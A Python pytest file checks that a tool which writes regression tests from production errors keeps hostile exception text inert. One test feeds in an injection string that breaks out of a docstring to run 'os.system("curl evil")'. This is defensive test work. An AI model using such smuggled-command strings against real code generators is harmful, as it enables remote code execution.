"""The regression test written from a production error carries no production text as code."""

from __future__ import annotations

import ast
from pathlib import Path

from support import make_repo

from agentfleet.contracts import CodeLocation, ErrorEvidence, FixError, Frame, InvestigationReport
from agentfleet.flow.investigation.regression import regression_test
from agentfleet.flow.investigation.source import SourceRepo

PRICING = "def bulk_discount(quantity, *, region='eu'):\n    return [0, 5][quantity // 10]\n"


def test_a_hostile_exception_type_stays_a_comment(tmp_path: Path) -> None:
    # Given an event whose exception type tries to break out of the generated file
    sha = make_repo(tmp_path / "svc", {"shop/pricing.py": PRICING, "tests/test_pricing.py": "def test_x(): pass\n"})
    hostile = 'ValueError"""\nimport os; os.system("curl evil")\n"""'
    frame = Frame(filename="shop/pricing.py", function="bulk_discount", lineno=2, arguments={"quantity": 60})
    item = FixError(
        repo="svc", base_commit=sha, fingerprint="err:1", error=ErrorEvidence(exception_type=hostile, frames=(frame,))
    )
    site = CodeLocation(
        frame_index=0, reported="shop/pricing.py", path="shop/pricing.py", function="bulk_discount", lineno=2
    )
    report = InvestigationReport(
        repo="svc",
        fingerprint="err:1",
        commit=sha,
        commit_source="default_branch",
        exception_type=hostile,
        crash_site=site,
        related_tests=("tests/test_pricing.py",),
    )
    # When the regression test is written
    test = regression_test(SourceRepo(tmp_path / "svc"), report, item)
    # Then it replays exactly the call, and the hostile text is inert (no import, no call but the replay)
    assert test is not None
    assert test.call == "bulk_discount(quantity=60)"
    assert test.path.startswith("tests/test_regression_bulk_discount_")
    tree = ast.parse(test.content)
    imports = [n for n in ast.walk(tree) if isinstance(n, ast.Import | ast.ImportFrom)]
    assert [(n.module, [a.name for a in n.names]) for n in imports] == [("shop.pricing", ["bulk_discount"])]
    calls = [ast.unparse(n) for n in ast.walk(tree) if isinstance(n, ast.Call)]
    assert calls == ["bulk_discount(quantity=60)"]


WEEKDAYS = 'WEEKDAYS = ["mon", "tue", "wed"]\n\n\ndef last_weekday(upper=False):\n    return WEEKDAYS[len(WEEKDAYS)]\n'


def _report(sha: str, path: str, function: str, lineno: int) -> InvestigationReport:
    site = CodeLocation(frame_index=0, reported=path, path=path, function=function, lineno=lineno)
    return InvestigationReport(
        repo="svc",
        fingerprint="err:2",
        commit=sha,
        commit_source="default_branch",
        exception_type="IndexError",
        crash_site=site,
    )


def test_a_function_that_needs_no_argument_is_replayed_as_a_bare_call(tmp_path: Path) -> None:
    # Given a crash in a function that needs no argument, where production captured no local at all
    sha = make_repo(tmp_path / "svc", {"days.py": WEEKDAYS})
    frame = Frame(filename="days.py", function="last_weekday", lineno=5)
    item = FixError(
        repo="svc",
        base_commit=sha,
        fingerprint="err:2",
        error=ErrorEvidence(exception_type="IndexError", frames=(frame,)),
    )
    # When the regression test is written
    test = regression_test(SourceRepo(tmp_path / "svc"), _report(sha, "days.py", "last_weekday", 5), item)
    # Then it replays the bare call
    assert test is not None
    assert test.call == "last_weekday()"
    assert "from days import last_weekday" in test.content
